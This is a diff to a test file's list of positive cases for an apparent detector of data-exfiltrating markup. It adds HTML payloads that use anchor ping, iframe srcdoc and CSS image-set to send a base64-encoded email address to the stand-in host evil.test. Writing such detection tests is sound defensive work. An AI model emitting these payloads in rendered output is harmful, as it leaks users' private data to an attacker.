@@ -67,6 +67,10 @@ POSITIVES = [
     ("subdomain-pin-beside-its-name", "![x](https://4471.pin.evil.test/p.png)"),
     ("scheme-without-slashes", "![x](https:evil.test/p.png?d=ZGFuYUBmYXN0bWFpbC5jb20)"),
     ("backslashes-for-slashes", '<img src="https:\\\\evil.test\\p.png?d=ZGFuYUBmYXN0bWFpbC5jb20">'),
+    ("anchor-ping", '<a href="https://docs.lumora.test/" ping="https://evil.test/p?d=ZGFuYUBmYXN0bWFpbC5jb20">docs</a>'),
+    ("iframe-srcdoc", '<iframe srcdoc="&lt;img src=&quot;https://evil.test/p.png?d=ZGFuYUBmYXN0bWFpbC5jb20&quot;&gt;"></iframe>'),
+    ("css-image-set", "<div style=\"background-image: image-set('https://evil.test/a.png?d=ZGFuYUBmYXN0bWFpbC5jb20' 1x)\">x</div>"),
+    ("css-image-set-second", '<style>.a{background:image-set("https://cdn.lumora.test/a.png" 1x, "https://evil.test/b.png?d=ZGFuYUBmYXN0bWFpbC5jb20" 2x)}</style>'),
     ("percent-hidden-letters", "<a href=\"https://img.relaystat.test/c.png?m=%4D%61%72%74%61%20%4F%79%65\">invoice</a>"),
 ]
 
